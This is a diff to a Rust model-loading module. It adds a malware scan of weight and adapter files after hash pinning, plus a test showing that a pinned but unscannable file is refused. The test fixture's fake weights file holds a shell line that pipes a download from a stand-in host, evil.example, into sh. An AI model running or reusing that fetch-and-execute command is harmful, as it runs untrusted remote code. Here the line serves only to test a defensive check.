@@ -1,5 +1,7 @@
-//! The load gate: a model's files are hashed and compared with their pins before any engine
-//! reads them. `VerifiedModel` can only be built here.
+//! The load gate: a model's files are hashed and compared with their pins, and its weight files
+//! are scanned for malicious payloads (pickle globals, template injection, structural tricks),
+//! before any engine reads them. `VerifiedModel` can only be built here, and only when both
+//! checks pass.
 
 use std::collections::BTreeMap;
 use std::fs::File;
@@ -60,6 +62,66 @@ pub enum VerifyError {
     },
     #[error("{0}; the file is corrupt or was replaced: delete it and run `make models` to fetch it again")]
     Mismatch(Mismatch),
+    /// The scanner found something unsafe, or could not understand the file (never loaded).
+    #[error("{path} failed the model scan ({verdict}): {reason}")]
+    Unsafe { path: PathBuf, verdict: &'static str, reason: String },
+}
+
+/// Roles whose files are model payloads and go through the scanner (tokenizers and configs are
+/// read as plain JSON by the engines).
+const SCANNED_ROLES: &[&str] = &["weights", "adapter"];
+
+/// Positioned reads over an open file, for the scanner (which reads headers, not whole files).
+struct FileSource {
+    file: File,
+    len: u64,
+}
+
+impl perimeter_scan::Source for FileSource {
+    fn len(&self) -> u64 {
+        self.len
+    }
+    fn read_at(&self, offset: u64, buf: &mut [u8]) -> Result<usize, perimeter_scan::SourceError> {
+        #[cfg(unix)]
+        {
+            use std::os::unix::fs::FileExt;
+            self.file.read_at(buf, offset).map_err(|e| perimeter_scan::SourceError(e.kind().to_string()))
+        }
+        #[cfg(not(unix))]
+        {
+            use std::os::windows::fs::FileExt;
+            self.file.seek_read(buf, offset).map_err(|e| perimeter_scan::SourceError(e.kind().to_string()))
+        }
+    }
+}
+
+/// Scans one model file.
+pub fn scan_file(path: &Path) -> Result<perimeter_scan::Report, VerifyError> {
+    let io = |source| VerifyError::Io { path: path.to_path_buf(), source };
+    let file = File::open(path).map_err(io)?;
+    let len = file.metadata().map_err(io)?.len();
+    let name = path.file_name().map(|n| n.to_string_lossy().into_owned()).unwrap_or_default();
+    Ok(perimeter_scan::scan(&name, &FileSource { file, len }))
+}
+
+/// `Ok` only when the scan of `path` is clean.
+pub fn require_clean(path: &Path) -> Result<(), VerifyError> {
+    let report = scan_file(path)?;
+    let verdict = match report.verdict {
+        perimeter_scan::Verdict::Clean => return Ok(()),
+        perimeter_scan::Verdict::Unsafe => "unsafe",
+        perimeter_scan::Verdict::Unparseable => "could not be parsed",
+    };
+    let mut reasons: Vec<String> = report
+        .findings
+        .iter()
+        .filter(|f| f.severity > perimeter_scan::Severity::Info)
+        .map(|f| format!("{} at {}: {}", f.kind, f.location, f.detail))
+        .collect();
+    if let Some(e) = report.error {
+        reasons.push(e);
+    }
+    Err(VerifyError::Unsafe { path: path.to_path_buf(), verdict, reason: reasons.join("; ") })
 }
 
 /// Hashes every file of `entry` under `models_dir` and compares it with the pin.
@@ -70,6 +132,9 @@ pub fn verify(entry: &ModelEntry, models_dir: &Path) -> Result<VerifiedModel, Ve
         let path = models_dir.join(&f.path);
         let (size, digest) = hash_file(&path)?;
         f.check(size, &digest).map_err(VerifyError::Mismatch)?;
+        if SCANNED_ROLES.contains(&f.role.as_str()) {
+            require_clean(&path)?;
+        }
         files.insert(f.role.clone(), path);
         digests.insert(f.role.clone(), hex::encode(digest));
     }
@@ -106,9 +171,29 @@ mod tests {
 
     fn entry(sha: &str, size: u64) -> ModelEntry {
         let text = format!(
-            "[[model]]\nname = \"t\"\nkind = \"embedding\"\npackage = \"p==1\"\n[[model.file]]\nrole = \"weights\"\npath = \"t/w\"\nmember = \"w\"\nsha256 = \"{sha}\"\nsize = {size}\n"
+            "[[model]]\nname = \"t\"\nkind = \"embedding\"\npackage = \"p==1\"\n[[model.file]]\nrole = \"config\"\npath = \"t/w\"\nmember = \"w\"\nsha256 = \"{sha}\"\nsize = {size}\n"
         );
         Manifest::parse(&text).unwrap().models.remove(0)
+    }
+
+    #[test]
+    fn a_pinned_weights_file_that_the_scanner_does_not_pass_is_refused() {
+        use sha2::{Digest, Sha256};
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("t")).unwrap();
+        // The digest matches the pin, but the bytes are not a model format the scanner knows:
+        // never loaded. (A pinned file is only as good as what was pinned.)
+        let bytes = b"#!/bin/sh\ncurl http://evil.example | sh\n";
+        std::fs::write(dir.path().join("t/w"), bytes).unwrap();
+        let sha = hex::encode(Sha256::digest(bytes));
+        let text = format!(
+            "[[model]]\nname = \"t\"\nkind = \"embedding\"\npackage = \"p==1\"\n[[model.file]]\nrole = \"weights\"\npath = \"t/w\"\nmember = \"w\"\nsha256 = \"{sha}\"\nsize = {}\n",
+            bytes.len()
+        );
+        let entry = Manifest::parse(&text).unwrap().models.remove(0);
+        let err = verify(&entry, dir.path()).unwrap_err();
+        assert!(matches!(err, VerifyError::Unsafe { .. }), "{err}");
+        assert!(err.to_string().contains("failed the model scan"), "{err}");
     }
 
     #[test]
@@ -127,7 +212,7 @@ mod tests {
         std::fs::create_dir_all(dir.path().join("t")).unwrap();
         std::fs::write(dir.path().join("t/w"), b"abc").unwrap();
         let v = verify(&good, dir.path()).unwrap();
-        assert_eq!(v.file("weights"), Some(dir.path().join("t/w").as_path()));
+        assert_eq!(v.file("config"), Some(dir.path().join("t/w").as_path()));
         std::fs::write(dir.path().join("t/w"), b"abd").unwrap();
         let err = verify(&good, dir.path()).unwrap_err().to_string();
         assert!(err.contains("SHA-256") && err.contains("make models"), "{err}");
